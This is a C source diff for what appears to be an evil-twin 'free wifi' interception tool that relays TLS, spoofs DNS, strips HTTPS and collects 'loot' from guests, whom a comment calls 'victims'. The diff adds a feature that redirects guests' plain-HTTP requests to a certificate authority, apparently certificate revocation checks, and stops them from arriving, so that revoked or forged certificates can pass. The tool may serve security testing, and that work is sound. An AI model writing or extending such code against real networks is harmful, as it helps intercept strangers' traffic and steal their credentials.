@@ -16,6 +16,7 @@
 #include "loot.h"
 #include "relay.h"
 #include "uplink.h"
+#include "withhold.h"
 
 #define LEASE_FILE "/run/glassnet/freewifi.leases"
 
@@ -33,6 +34,7 @@ struct freewifi {
 	struct accesspoint ap;
 	bool ap_started;
 	struct dnsspoof dns;
+	struct withhold crl;
 	struct relay *relay;
 	SSL_CTX *server_ctx, *client_ctx;
 	struct strip strip;
@@ -74,6 +76,7 @@ static void stop(struct freewifi *f)
 	if (f->ap_started)
 		accesspoint_stop(&f->ap);
 	dnsspoof_stop(&f->dns);
+	withhold_stop(&f->crl);
 	close_watch(&f->watching_stop, &f->stop);
 	close_watch(&f->watching_input, &f->input);
 	if (!uv_is_closing((uv_handle_t *)&f->ready))
@@ -254,6 +257,27 @@ static enum err start_spoofing(struct freewifi *f)
 	return ERR_OK;
 }
 
+static enum err start_withholding(struct freewifi *f)
+{
+	struct ip ca;
+	if (!f->opt->withhold)
+		return ERR_OK;
+	enum err e = uplink_resolve(&ca, WITHHOLD_CA, f->opt->limit_ns);
+	if (e)
+		return fail(f, e == ERR_NEGATIVE ? ERR_UNREACHABLE : e,
+		    "the real resolver gives no address for " WITHHOLD_CA);
+	f->crl.trace = f->trace;
+	f->crl.ap = &f->ap;
+	e = withhold_start(&f->crl, &f->loop, &f->lan, &ca);
+	if (e == ERR_UNSUPPORTED)
+		return fail(f, e, "nft does not take the rule that turns connections round");
+	if (e)
+		return fail(f, e, "cannot listen on port %d: %s", WITHHOLD_OWN_PORT, strerror(errno));
+	ev_decision(
+	    f->trace, "withholding", "RFC 5280 8", "what guests ask " WITHHOLD_CA " over http does not get there");
+	return ERR_OK;
+}
+
 static enum err start(struct freewifi *f)
 {
 	enum err e = find_places(f);
@@ -263,6 +287,8 @@ static enum err start(struct freewifi *f)
 		e = start_relay(f);
 	if (!e)
 		e = start_spoofing(f);
+	if (!e)
+		e = start_withholding(f);
 	if (!e)
 		e = watch_fd(f, &f->stop, &f->watching_stop, f->opt->stop_fd, on_stop);
 	if (!e)
@@ -300,10 +326,10 @@ static void emit_result(struct freewifi *f)
 	for (size_t i = 0; i < l->n && n < sizeof line; i++)
 		n += (size_t)snprintf(
 		    line + n, sizeof line - n, "%s%s=%s", i ? ", " : "", l->items[i].key, l->items[i].value);
-	json_t *o =
-	    json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i, s:o}", "tls", tls_attack_name(f->opt->tls), "rewrite",
-	        f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections", relay_json(f->relay),
-	        "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies, "dns_spoofed", dnsspoof_json(&f->dns));
+	json_t *o = json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i, s:o, s:i}", "tls", tls_attack_name(f->opt->tls),
+	    "rewrite", f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections",
+	    relay_json(f->relay), "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies, "dns_spoofed",
+	    dnsspoof_json(&f->dns), "crl_withheld", (int)f->crl.n);
 	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
 	json_decref(o);
 	if (l->n)
@@ -337,7 +363,7 @@ enum err freewifi_run(const struct freewifi_options *opt, struct trace *t, char 
 	f->opt = opt;
 	f->trace = t;
 	f->msg = msg;
-	f->dns.in = f->dns.out = -1;
+	f->dns.in = f->dns.out = f->crl.fd = -1;
 	loot_init(&f->loot);
 	signal(SIGPIPE, SIG_IGN); /* OpenSSL writes to sockets that victims have closed */
 	if (uv_loop_init(&f->loop)) {
